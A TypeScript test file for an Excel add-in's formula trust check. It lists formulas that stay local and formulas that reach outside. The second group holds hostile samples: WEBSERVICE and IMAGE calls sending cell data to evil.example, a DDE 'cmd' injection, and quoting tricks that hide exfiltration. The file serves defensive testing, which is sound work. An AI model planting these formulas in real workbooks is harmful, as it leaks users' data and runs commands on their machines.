import { formulaOf } from "../../src/excel/sheet/cell-formula";
import { staysInside } from "../../src/excel/formulas/trust";

describe("A cell", () => {
  it("holds a formula when it shows something else than what Excel lists for it", () => {
    expect(formulaOf(2, "=1+1")).toBe("=1+1");
    expect(formulaOf("", '=""')).toBe('=""');
  });

  it.each(["=1+1", "+1", 7])(
    "holds no formula when it shows %j and Excel lists the same",
    (text) => {
      expect(formulaOf(text, text)).toBeNull();
    }
  );
});

describe("A formula that a file claims", () => {
  it.each([
    '=SCOUT.COMPANY(A2,"Name")',
    "=IFERROR(scout.uses([@Domain],B$1),0)+1",
    '=TEXTJOIN("; ",TRUE,_xlfn.UNIQUE(SCOUT.TECHSTACK(A2)))',
    '=SCOUT.COMPANY("http://a.example/?q=WEBSERVICE(1)|x!y")',
    "=SCOUT.USES('Q1 plan'!A2,Leads[Keyword])",
    "=SCOUT.COMPANY('Sheet1 (2)'!A2)&Leads[[#This Row],[Jobs (all)]]",
    "=SCOUT.COMPANY('it''s \"here\"'!A2)",
    "=MAP(A2:$A$9,LAMBDA(x,SCOUT.COMPANY(x&Sheet1!B2)))",
    "=BYROW(Leads[Jobs],SUM)",
    "=SUM(Leads[Jobs])*TaxRate",
    "=REDUCE(0,A1:A3,LAMBDA(a,b,a+b))",
  ])("stays inside: %s", (formula) => {
    expect(staysInside(formula, true)).toBe(true);
  });

  it.each([
    '=HYPERLINK("https://evil.example/?"&A1,SCOUT.COMPANY(A2))',
    '=SCOUT.COMPANY(WEBSERVICE("https://evil.example/?"&A1))',
    '=SCOUT.COMPANY(_xlfn.WEBSERVICE("https://evil.example/?"&A1))',
    '=SCOUT.COMPANY(A2)&IMAGE("https://evil.example/"&A1)',
    "=SCOUT.COMPANY(A2)&HYPERLINK (A1)",
    "=SCOUT.COMPANY('C:\\x\\[Book.xlsx]S'!A1)",
    "=SCOUT.COMPANY([2]Sheet1!A1)",
    "=SCOUT.COMPANY(cmd|'/c calc'!A0)",
    "=SCOUT.COMPANY(OTHER.SEND(A1))",
    "=Other.xla!SCOUT.COMPANY(A1)",
    "=CALL(1)+SCOUT.COMPANY(A1)",
    '=SCOUT.COMPANY(INDIRECT("x"))',
    '=MAP("https://evil.example/?"&A1,WEBSERVICE)',
    '=MAP("https://evil.example/?"&A1,(_xlfn.IMAGE))',
    "=SCAN(0,A1:A9,IF(1,webservice))",
    "=LET(f,RTD,MAKEARRAY(1,1,f))",
    `='a"b'!A1&WEBSERVICE("https://evil.example/?"&A1)&'c"d'!A1`,
    `=Leads[a"b]&WEBSERVICE("https://evil.example/?"&A1)&Leads[c"d]`,
    `=Leads[a'["b]&WEBSERVICE("https://evil.example/?"&A1)&Leads[c"d]`,
  ])("reaches outside: %s", (formula) => {
    expect(staysInside(formula, true)).toBe(false);
  });
});
